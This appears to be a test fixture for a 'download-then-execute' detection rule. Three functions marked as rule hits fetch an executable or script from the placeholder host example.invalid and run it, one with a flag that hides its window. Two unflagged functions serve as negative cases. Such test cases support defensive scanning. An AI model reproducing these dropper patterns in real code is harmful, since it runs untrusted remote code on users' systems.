import os
import subprocess
import tempfile
import urllib.request

import requests


def drop_exe():
    path = os.path.join(tempfile.gettempdir(), "update.exe")
    data = requests.get("https://example.invalid/update.exe")
    with open(path, "wb") as fh:
        fh.write(data.content)
    # ruleid: download-then-execute
    subprocess.Popen([path], creationflags=0x08000000)


def drop_retrieve():
    target = os.path.expanduser("~/.cache/helper.bin")
    urllib.request.urlretrieve("https://example.invalid/helper.bin", target)
    # ruleid: download-then-execute
    os.system(target)


def drop_script():
    script = "/tmp/stage.py"
    open(script, "wb").write(requests.get("https://example.invalid/s.py").content)
    # ruleid: download-then-execute
    subprocess.call(["python3", script])


def fetch_docs():
    archive = "docs.tar.gz"
    urllib.request.urlretrieve("https://example.invalid/docs.tar.gz", archive)
    # ok: download-then-execute
    subprocess.call(["make", "html"])


def save_config(cfg):
    with open("settings.cfg", "w") as fh:
        fh.write(cfg)
    # ok: download-then-execute
    subprocess.call(["editor", "settings.cfg"])
